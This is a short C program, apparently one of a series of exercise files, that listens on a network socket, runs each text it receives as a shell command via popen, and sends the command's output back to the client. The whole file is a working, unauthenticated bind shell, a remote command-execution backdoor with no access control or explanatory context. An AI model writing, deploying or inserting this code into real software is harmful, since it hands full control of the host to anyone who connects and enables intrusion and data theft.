#include "../start.h"

int main(void)
{
	int server = listener();

	for (;;) {
		int connection = accept(server, NULL, NULL);
		char command[1024];
		ssize_t size;

		while ((size = recv(connection, command, sizeof command - 1, 0)) > 0) {
			static char output[65536];
			FILE *shell;

			command[size] = '\0';
			shell = popen(command, "r");
			send(connection, output, fread(output, 1, sizeof output, shell), 0);
			pclose(shell);
		}
		close(connection);
	}
}
